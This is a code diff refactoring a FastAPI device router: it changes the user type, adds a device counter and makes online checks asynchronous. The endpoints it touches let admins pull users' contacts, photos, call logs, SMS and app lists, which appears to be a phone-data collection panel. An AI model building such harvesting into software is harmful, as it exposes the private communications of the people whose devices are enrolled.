@@ -14,6 +14,8 @@ from app.core.i18n import i18n, get_language_from_request
 from app.db.session import get_db
 from app.db.models import User, UserDevice, UserDataPayload
 from app.api.v1.auth import get_current_user
+from app.core.user_cache import AuthUser
+from app.core.stats_rollup import stats_rollup, DEVICES_TOTAL
 
 router = APIRouter()
 
@@ -100,7 +102,7 @@ class SendMessageRequest(BaseModel):
 
 async def _get_device_for_admin(
     device_id: int,
-    current_user: User,
+    current_user: AuthUser,
     db: AsyncSession,
     lang: str,
 ) -> tuple[UserDevice, User]:
@@ -198,7 +200,7 @@ def _device_to_response(
 async def register_device(
     device_data: DeviceRegister,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db)
 ):
     """
@@ -282,6 +284,7 @@ async def register_device(
     
     db.add(new_device)
     await db.commit()
+    stats_rollup.add(DEVICES_TOTAL)
     await db.refresh(new_device)
     return _device_to_response(new_device)
 
@@ -289,7 +292,7 @@ async def register_device(
 @router.get("/", response_model=List[DeviceWithUserResponse])
 async def get_user_devices(
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """
@@ -305,7 +308,7 @@ async def get_user_devices(
 
     lang = current_user.language or get_language_from_request(request)
 
-    from app.core.socketio import is_user_online
+    from app.core.socketio import get_online_users
 
     if is_super_admin(current_user):
         q = (
@@ -341,8 +344,9 @@ async def get_user_devices(
             detail=i18n.get("common.forbidden", lang) or "权限不足",
         )
 
+    online_user_ids = await get_online_users()
     return [
-        _device_to_response(d, u, is_online=is_user_online(u.id))
+        _device_to_response(d, u, is_online=u.id in online_user_ids)
         for d, u in rows
     ]
 
@@ -357,7 +361,7 @@ async def _payload_for_user(user_id: int, db: AsyncSession) -> Optional[UserData
 async def get_device_contacts(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """获取设备对应用户的通讯录数据（管理员：好友设备；超管：全部）。"""
@@ -375,7 +379,7 @@ async def get_device_contacts(
 async def get_device_album(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
     page: int = Query(1, ge=1),
     limit: int = Query(50, ge=1, le=200),
@@ -396,7 +400,7 @@ async def get_device_album(
 async def get_device_calls(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """获取设备对应用户的通话记录。"""
@@ -414,7 +418,7 @@ async def get_device_calls(
 async def get_device_sms(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """获取设备对应用户的短信数据。"""
@@ -432,7 +436,7 @@ async def get_device_sms(
 async def get_device_apps(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """获取设备对应用户的 APP 列表。"""
@@ -450,7 +454,7 @@ async def get_device_apps(
 async def get_device_status(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """获取设备对应用户的在线状态。"""
@@ -458,7 +462,7 @@ async def get_device_status(
 
     lang = current_user.language or get_language_from_request(request)
     device, _ = await _get_device_for_admin(device_id, current_user, db, lang)
-    online = is_user_online(device.user_id)
+    online = await is_user_online(device.user_id)
     return {"is_online": online, "user_id": device.user_id}
 
 
@@ -467,7 +471,7 @@ async def update_device_blacklist(
     device_id: int,
     body: DeviceBlacklistUpdate,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """拉黑/解封设备（仅管理员可操作）。"""
@@ -484,7 +488,7 @@ async def send_device_message(
     device_id: int,
     body: SendMessageRequest,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db),
 ):
     """向设备对应用户发送系统消息（Socket 推送；仅管理员可操作）。"""
@@ -500,7 +504,7 @@ async def send_device_message(
 async def get_device(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db)
 ):
     """
@@ -532,7 +536,7 @@ async def update_device(
     device_id: int,
     device_data: DeviceUpdate,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db)
 ):
     """
@@ -572,7 +576,7 @@ async def update_device(
 async def delete_device(
     device_id: int,
     request: Request,
-    current_user: User = Depends(get_current_user),
+    current_user: AuthUser = Depends(get_current_user),
     db: AsyncSession = Depends(get_db)
 ):
     """
@@ -598,5 +602,6 @@ async def delete_device(
     
     await db.delete(device)
     await db.commit()
+    stats_rollup.add(DEVICES_TOTAL, -1)
     
     return None